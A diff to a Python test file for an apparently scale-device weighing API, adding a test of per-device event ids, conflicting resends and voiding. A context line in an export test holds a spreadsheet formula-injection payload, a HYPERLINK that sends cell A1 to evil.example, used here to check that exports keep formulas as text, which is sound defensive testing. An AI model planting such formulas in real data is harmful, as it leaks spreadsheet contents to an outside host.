@@ -68,6 +68,30 @@ def test_poison_events_are_answered_one_by_one_never_a_500(client, staff) -> Non
     assert "\x00" not in next(d for d in devices if d["id"] == home.device)["firmware"]
 
 
+def test_event_ids_belong_to_their_device_and_a_conflicting_resend_is_kept(client, staff) -> None:
+    a, b = enrol(client, staff), enrol(client, staff)
+    shared = "scale-made-0001"  # two devices after the same factory reset: the same first id
+    assert upload(client, a, [event(a, id=shared, net_kg=1.0)]).json()["accepted"] == 1
+    assert upload(client, b, [event(b, id=shared, net_kg=2.0)]).json()["accepted"] == 1  # not b's duplicate
+    rows = [r for r in exported(client, staff) if r["event_id"] == shared]
+    assert {(r["device"], float(r["net_kg"])) for r in rows} == {(a.device, 1.0), (b.device, 2.0)}
+
+    original = event(a, id="scale-made-0002", net_kg=1.5)
+    assert upload(client, a, [original]).json()["accepted"] == 1
+    assert upload(client, a, [original]).json()["duplicates"] == 1  # a resend: nothing changes
+    other = {**original, "net_kg": 3.0}  # same id, other content: was answered "duplicate" and lost
+    answer = upload(client, a, [other]).json()["results"][0]
+    assert answer["status"] == "rejected" and "other content" in answer["reasons"][0]
+    assert upload(client, a, [other]).json()["results"][0] == answer  # kept once, the same answer
+    pending = client.get("/v1/staff/weighings/rejected", headers=staff).json()
+    assert any(r["event_id"] == "scale-made-0002" and r["payload"]["net_kg"] == 3.0 for r in pending)
+
+    body = {"reason": "test"}
+    assert client.post(f"/v1/staff/weighings/{shared}/void", json=body, headers=staff).status_code == 409
+    r = client.post(f"/v1/staff/weighings/{shared}/void", params={"device": b.device}, json=body, headers=staff)
+    assert r.status_code == 200 and r.json()["device"] == b.device
+
+
 def test_the_export_keeps_formulas_as_text(client, staff, home) -> None:
     evil = event(home, firmware='=HYPERLINK("http://evil.example/?"&A1,"update")')
     assert upload(client, home, [evil]).json()["accepted"] == 1
